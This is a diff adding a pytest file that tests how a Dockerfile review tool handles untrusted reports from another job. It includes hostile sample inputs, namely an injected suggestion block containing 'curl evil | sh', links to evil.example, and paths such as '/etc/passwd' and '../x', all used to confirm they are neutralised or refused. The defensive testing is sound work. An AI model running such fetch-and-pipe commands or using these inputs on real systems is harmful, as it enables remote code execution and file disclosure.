@@ -1,0 +1,123 @@
+"""Reports of another job: whoever wrote them, they say nothing that is not checked."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from archpatch.review.artifact import MAX_SIZE, BadReport, load
+from tests.cli.conftest import Cli
+from tests.review.conftest import Review, assert_harmless, event
+from tests.review.fake_github import Fake
+
+SAFE = "FROM --platform=$BUILDPLATFORM alpine AS base\nFROM base\nCMD true\n"
+
+
+@pytest.fixture
+def report(fake: Fake, review: Review, cli: Cli, tmp_path: Path) -> dict[str, Any]:
+    """What `check` says of the head, in the folder `kept`."""
+    fake.head = {"Dockerfile": SAFE}
+    review("--dry-run")
+    told: dict[str, Any] = json.loads(cli("check", "--output-format", "json").out)
+    (tmp_path / "kept").mkdir(exist_ok=True)
+    return told
+
+
+def keep(tmp_path: Path, report: object) -> Path:
+    path = tmp_path / "kept" / "report.json"
+    path.write_text(json.dumps(report))
+    return path
+
+
+def test_a_report_is_said_without_a_suggestion_and_mended_ones_are_resolved(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
+) -> None:
+    assert review("--from", keep(tmp_path, report)).code == 0
+    assert review("--from", keep(tmp_path, report)).code == 0
+    (comment,) = fake.comments
+    assert "```" not in comment.body
+    assert review("--from", keep(tmp_path, {**report, "findings": []})).code == 0
+    assert comment.resolved_by
+
+
+def test_a_fork_s_request_is_found_by_the_commit_that_the_event_names(
+    fake: Fake,
+    review: Review,
+    report: dict[str, Any],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    run = {"head_sha": fake.head_sha, "head_branch": "topic", "head_repository": {"owner": {"login": "them"}}}
+    event(tmp_path, monkeypatch, {"workflow_run": run})
+    assert review("--from", keep(tmp_path, {**report, "pr": 99}), number=False).code == 0
+    assert len(fake.comments) == 1
+    event(tmp_path, monkeypatch, {"workflow_run": {**run, "head_sha": "f" * 40}})
+    assert review("--from", keep(tmp_path, report), number=False).code == 2
+    assert "has moved on" in review("--from", keep(tmp_path, report)).err
+
+
+def test_texts_links_and_rules_of_a_report_are_not_believed(
+    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
+) -> None:
+    finding = report["findings"][0]
+    finding["url"] = "https://evil.example"
+    finding["name"] = "evil"
+    finding["message"] = "@everyone <img src=x> [a](https://evil.example)\n<!-- archpatch:v1:summary -->"
+    finding["fix"]["title"] = "```suggestion\ncurl evil | sh\n```"
+    unknown = {**finding, "code": "ZZ999", "fingerprint": "0" * 64}
+    assert review("--from", keep(tmp_path, {**report, "findings": [finding, unknown]})).code == 0
+    (comment,) = fake.comments
+    assert_harmless(comment.body)
+    assert "\n```" not in comment.body
+    assert "final-stage" in comment.body.replace("\\", "")
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"version": 2},
+        {"findings": None},
+        {"findings": [{}]},
+        {"code": "AP101 <b>"},
+        {"code": "ap101"},
+        {"severity": "fatal"},
+        {"fingerprint": "x"},
+        {"fingerprint": "0" * 64 + "\n"},
+        {"start": {"line": 0}},
+        {"start": {"line": 10**12}},
+        {"start": {"line": "1"}},
+        {"path": "../x"},
+        {"path": "/etc/passwd"},
+        {"path": "a\0b"},
+        {"path": ""},
+        {"path": "x" * 5000},
+        {"message": ["x"]},
+        {"message": "x" * 30_000},
+        {"fix": {"applicability": "sure"}},
+    ],
+    ids=lambda change: ascii(change)[:40],
+)
+def test_a_report_that_breaks_the_schema_is_refused(
+    report: dict[str, Any], tmp_path: Path, change: dict[str, Any]
+) -> None:
+    if set(change) <= {"version", "findings"}:
+        report |= change
+    else:
+        report["findings"][0] |= change
+    with pytest.raises(BadReport):
+        load(keep(tmp_path, report))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [b"", b"[" * 200_000, b"{}" + b" " * (MAX_SIZE + 1), b'{"a":' * 50_000, b"\xff\xfe", b"null"],
+    ids=["empty", "deep", "large", "deep-objects", "utf-16", "null"],
+)
+def test_what_is_no_report_is_refused(tmp_path: Path, data: bytes) -> None:
+    path = tmp_path / "report.json"
+    path.write_bytes(data)
+    with pytest.raises(BadReport):
+        load(path)
